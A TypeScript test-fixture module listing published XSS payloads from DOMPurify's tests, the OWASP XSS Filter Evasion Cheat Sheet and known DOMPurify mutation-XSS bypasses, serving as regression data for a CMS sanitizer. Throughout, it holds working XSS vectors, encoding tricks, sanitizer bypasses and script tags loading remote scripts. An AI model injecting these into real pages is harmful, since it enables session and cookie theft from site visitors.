/**
 * Published XSS payloads the CMS sanitizer must defuse. Each names where it was published:
 * - DOMPurify: the `payload` of an entry in cure53/DOMPurify `test/fixtures/expect.mjs`
 *   (titles as given there, or the entry's `id` when it has no title).
 * - OWASP: the OWASP Cheat Sheet Series, "XSS Filter Evasion Cheat Sheet" (section names as there).
 * - Bentkowski / Kinugawa: published DOMPurify mXSS bypasses (fixed upstream, kept as regressions).
 * The payloads are inert test data; they only ever reach the sanitizer.
 */

export type PayloadSource =
  'DOMPurify expect.mjs' | 'OWASP XSS Filter Evasion Cheat Sheet' | 'published mXSS bypass';

export interface XssPayload {
  source: PayloadSource;
  name: string;
  payload: string;
}

const dp = (name: string, payload: string): XssPayload => ({ source: 'DOMPurify expect.mjs', name, payload });
const owasp = (name: string, payload: string): XssPayload => ({
  source: 'OWASP XSS Filter Evasion Cheat Sheet',
  name,
  payload,
});
const mxss = (name: string, payload: string): XssPayload => ({
  source: 'published mXSS bypass',
  name,
  payload,
});

export const XSS_PAYLOADS: readonly XssPayload[] = [
  // --- DOMPurify test suite
  dp(
    'safe usage of URI-like attribute values (#135)',
    '<b href="javascript:alert(1)" title="javascript:alert(2)"></b>',
  ),
  dp(
    'src attributes for IMG, AUDIO, VIDEO and SOURCE (#131)',
    '<img src="data:,123"><audio src="data:,456"></audio><video src="data:,789"></video><source src="data:,012"><div src="data:,345">',
  ),
  dp(
    'DOM clobbering against document.createElement() (#47)',
    '<img src=x name=createElement><img src=y id=createElement>',
  ),
  dp('JavaScript URIs using Unicode LS/PS', "123<a href='\u2028javascript:alert(1)'>I am a dolphin!</a>"),
  dp(
    'JavaScript URIs using Unicode whitespace',
    "123<a href=' javascript:alert(1)'>CLICK</a><a href='&#xA0javascript:alert(1)'>CLICK</a><a href='&#x1680;javascript:alert(1)'>CLICK</a><a href='&#x2000;javascript:alert(1)'>CLICK</a><a href='&#x200B;javascript:alert(1)'>CLICK</a><a href='&#x3000;javascript:alert(1)'>CLICK</a>",
  ),
  dp('Image with data URI src', '<img src=data:image/jpeg,ab798ewqxbaudbuoibeqbla>'),
  dp('Image with JavaScript URI src (DoS on Firefox)', "<img src='javascript:while(1){}'>"),
  dp('Link with data URI href', '<a href=data:,evilnastystuff>clickme</a>'),
  dp(
    'DOM clobbering XSS by @irsdl using attributes',
    '<form onmouseover=\'alert(1)\'><input name="attributes"><input name="attributes">',
  ),
  dp(
    'onclick, onsubmit, onfocus; DOM clobbering: parentNode',
    '<div onclick=alert(0)><form onsubmit=alert(1)><input onfocus=alert(2) name=parentNode>123</form></div>',
  ),
  dp('>style<', '<style>*{color: red}</style>'),
  dp('mXSS Variation I', '<listing>&lt;img onerror="alert(1);//" src=x&gt;<t t></listing>'),
  dp('mXSS Variation II', "<img src=x id/=' onerror=alert(1)//'>"),
  dp(
    'Textarea and comments enabling img element',
    '<textarea>@shafigullin</textarea><!--</textarea><img src=x onerror=alert(1)>-->',
  ),
  dp(
    'Img element inside noscript terminated inside comment',
    '<b><noscript><!-- </noscript><img src=x onerror=alert(1) --></noscript>',
  ),
  dp(
    'Img element inside noscript terminated inside attribute',
    '<b><noscript><a alt="</noscript><img src=x onerror=alert(1)>"></noscript>',
  ),
  dp(
    'Img element inside shadow DOM template',
    '<body><template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>',
  ),
  dp(
    'Low-range-ASCII obfuscated JavaScript URI',
    '<a href="\u0001java\u0003script:alert(1)">@shafigullin<a>',
  ),
  dp(
    'Img inside style inside broken option element',
    '\u0001<option><style></option></select><b><img src=x onerror=alert(1)></style></option>',
  ),
  dp('Iframe inside option element', '<option><iframe></select><b><script>alert(1)</script>'),
  dp('Image after style to trick jQuery tag-completion', '<b><style><style/><img src=x onerror=alert(1)>'),
  dp(
    'DOM clobbering attack using name=body',
    '<image name=body><image name=adoptNode>@mmrupp<image name=firstElementChild><svg onload=alert(1)>',
  ),
  dp(
    'DOM clobbering attack using name=body and injecting SVG + keygen',
    '<image name=body><img src=x><svg onload=alert(1); autofocus>, <keygen onfocus=alert(1); autofocus>',
  ),
  dp(
    'Bypass using multiple unknown attributes',
    '<div onmouseout="javascript:alert(/superevr/)" x=yscript: n>@superevr</div>',
  ),
  dp(
    'Bypass using event handlers and unknown attributes',
    '<button remove=me onmousedown="javascript:alert(1);" onclick="javascript:alert(1)" >@giutro',
  ),
  dp(
    'Bypass using DOM bugs when dealing with JS URIs in arbitrary attributes',
    '<a href="javascript:123" onclick="alert(1)">CLICK ME (bypass by @shafigullin)</a>',
  ),
  dp(
    'Bypass using DOM bugs when dealing with JS URIs in arbitrary attributes (II)',
    '<isindex x="javascript:" onmouseover="alert(1)" label="variation of bypass by @giutro">',
  ),
  dp(
    'Bypass using unknown attributes IV',
    '<input x=javascript: autofocus onfocus=alert(1)><svg id=1 onload=alert(1)></svg>',
  ),
  dp(
    'form action with newline in javascript: URI',
    '<form action="javasc\nript:alert(1)"><button>XXX</button></form>',
  ),
  dp(
    'button formaction (id 1)',
    '<div id="1"><form id="foobar"></form><button form="foobar" formaction="javascript:alert(1)">X</button>//["\'`-->]]>]</div>',
  ),
  dp(
    'meta charset x-imap4-modified-utf7 (id 3)',
    '<div id="3"><meta charset="x-imap4-modified-utf7">&<script&S1&TS&1>alert&A7&(1)&R&UA;&&<&A9&11/script&X&>//["\'`-->]]>]</div>',
  ),
  dp('autofocus onfocus (id 7)', '<div id="7"><input onfocus=alert(7) autofocus>//["\'`-->]]>]</div>'),
  dp(
    '-o-link style and video poster (ids 9, 10)',
    '<div id="9"><a style="-o-link:\'javascript:alert(9)\';-o-link-source:current">X</a>//["\'`-->]]>]</div>\n\n<div id="10"><video poster=javascript:alert(10)//></video>//["\'`-->]]>]</div>',
  ),
  dp(
    'SVG g onload (id 11)',
    '<div id="11"><svg xmlns="http://www.w3.org/2000/svg"><g onload="javascript:alert(11)"></g></svg>//["\'`-->]]>]</div>',
  ),
  dp(
    'body onscroll (id 12)',
    '<div id="12"><body onscroll=alert(12)><br><br><br><br><br><br>...<br><br><br><br><input autofocus>//["\'`-->]]>]</div>',
  ),
  dp(
    'HTML+TIME behavior (id 16)',
    '<div id="16">X<x style=`behavior:url(#default#time2)` onbegin=`alert(16)` >//["\'`-->]]>]</div>',
  ),
  dp(
    'link stylesheet with data: expression (id 29)',
    '<div id="29"><link rel=stylesheet href=data:,*%7bx:expression(alert(29))%7d//["\'`-->]]>]</div>',
  ),
  dp(
    'style @import data: expression (id 30)',
    '<div id="30"><style>@import "data:,*%7bx:expression(alert(30))%7D";</style>//["\'`-->]]>]</div>',
  ),
  dp('frameset onload (id 31)', '<div id="31"><frameset onload=alert(31)>//["\'`-->]]>]</div>'),
  dp(
    'table background javascript: (id 32)',
    '<div id="32"><table background="javascript:alert(32)"></table>//["\'`-->]]>]</div>',
  ),
  dp(
    'absolutely positioned overlay link (id 33)',
    '<div id="33"><a style="pointer-events:none;position:absolute;"><a style="position:absolute;" onclick="alert(33);">XXX</a></a><a href="javascript:alert(2)">XXX</a>//["\'`-->]]>]</div>',
  ),
  dp(
    'comment breaking out of img src (id 37)',
    '<div id="37"><!--<img src="--><img src=x onerror=alert(37)//">//["\'`-->]]>]</div>',
  ),
  dp(
    'CDATA in SVG (id 39)',
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(2)//"></svg>//["\'`-->]]>]</div>',
  ),
  dp(
    'style element hiding an img (id 40)',
    '<div id="40"><style><img src="</style><img src=x onerror=alert(40)//">//["\'`-->]]>]</div>',
  ),
  dp(
    'list-style url() with onerror (id 41)',
    '<div id="41"><li style=list-style:url() onerror=alert(41)></li>',
  ),
  dp(
    'content:url(data:) style with onload',
    '<div style=content:url(data:image/svg+xml,%3Csvg/%3E);visibility:hidden onload=alert(41)></div>//["\'`-->]]>]</div>',
  ),
  dp(
    'base href javascript: (id 42)',
    '<div id="42"><head><base href="javascript://"/></head><body><a href="/. /,alert(42)//#">XXX</a></body>//["\'`-->]]>]</div>',
  ),

  // --- OWASP XSS Filter Evasion Cheat Sheet
  owasp(
    'Basic XSS test without filter evasion',
    '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  ),
  owasp(
    'XSS locator (polyglot)',
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
  ),
  owasp('Malformed A tags', '\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>'),
  owasp('Malformed IMG tags', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'),
  owasp('fromCharCode', '<a href="javascript:alert(String.fromCharCode(88,83,83))">Click Me!</a>'),
  owasp('Default SRC tag by leaving it empty', '<IMG SRC= onmouseover="alert(\'xxs\')">'),
  owasp('On error alert', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'),
  owasp(
    'IMG onerror and JavaScript alert encode',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  ),
  owasp(
    'Decimal HTML character references',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">Click Me!</a>',
  ),
  owasp(
    'Decimal HTML character references without trailing semicolons',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">Click Me</a>',
  ),
  owasp(
    'Hexadecimal HTML character references without trailing semicolons',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">Click Me</a>',
  ),
  owasp('Embedded tab', '<a href="jav\tascript:alert(\'XSS\');">Click Me</a>'),
  owasp('Embedded encoded tab', '<a href="jav&#x09;ascript:alert(\'XSS\');">Click Me</a>'),
  owasp('Embedded newline to break up XSS', '<a href="jav&#x0A;ascript:alert(\'XSS\');">Click Me</a>'),
  owasp(
    'Spaces and meta chars before the JavaScript in images',
    '<a href=" &#14;  javascript:alert(\'XSS\');">Click Me</a>',
  ),
  owasp(
    'Non-alpha-non-digit XSS',
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT><BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  ),
  owasp('Extraneous open brackets', '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'),
  owasp('No closing script tags', '<SCRIPT SRC=http://xss.rocks/xss.js?< B >'),
  owasp('End title tag', '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'),
  owasp('INPUT image', '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">'),
  owasp('BODY image', '<BODY BACKGROUND="javascript:alert(\'XSS\')">'),
  owasp(
    'IMG Dynsrc and Lowsrc',
    '<IMG DYNSRC="javascript:alert(\'XSS\')"><IMG LOWSRC="javascript:alert(\'XSS\')">',
  ),
  owasp(
    'List-style-image',
    '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  ),
  owasp('VBscript in an image', '<IMG SRC=\'vbscript:msgbox("XSS")\'>'),
  owasp('SVG object tag', "<svg/onload=alert('XSS')>"),
  owasp('BODY tag', "<BODY ONLOAD=alert('XSS')>"),
  owasp('BGSOUND', '<BGSOUND SRC="javascript:alert(\'XSS\');">'),
  owasp('STYLE sheet', '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">'),
  owasp('STYLE tags with broken-up JavaScript', '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>'),
  owasp(
    'STYLE attribute using a comment to break up expression',
    '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  ),
  owasp('META refresh', '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">'),
  owasp(
    'META using data',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  ),
  owasp('IFRAME', '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>'),
  owasp('IFRAME event based', '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>'),
  owasp('FRAME', '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>'),
  owasp(
    'TABLE',
    '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TR><TD BACKGROUND="javascript:alert(\'XSS\')">x</TD></TR></TABLE>',
  ),
  owasp('DIV background-image', '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">x</DIV>'),
  owasp(
    'DIV background-image with unicoded XSS exploit',
    '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">x</DIV>',
  ),
  owasp('DIV expression', '<DIV STYLE="width: expression(alert(\'XSS\'));">x</DIV>'),
  owasp('BASE tag', '<BASE HREF="javascript:alert(\'XSS\');//">'),
  owasp('OBJECT tag', '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>'),
  owasp(
    'EMBED SVG which contains XSS vector',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  ),
  owasp('XSS using HTML quote encapsulation', '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>'),
  owasp(
    'Anchor with data: URL',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>',
  ),

  // --- Published DOMPurify mXSS bypasses (fixed upstream; kept as regressions)
  mxss(
    'Bentkowski, DOMPurify 2.0.0 bypass via MathML and style',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  ),
  mxss(
    'Bentkowski, DOMPurify 2.0.17 bypass via nested forms',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ),
  mxss(
    'Kinugawa, DOMPurify 2.0.0 bypass via svg and p',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  ),
  mxss('noscript attribute breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
];
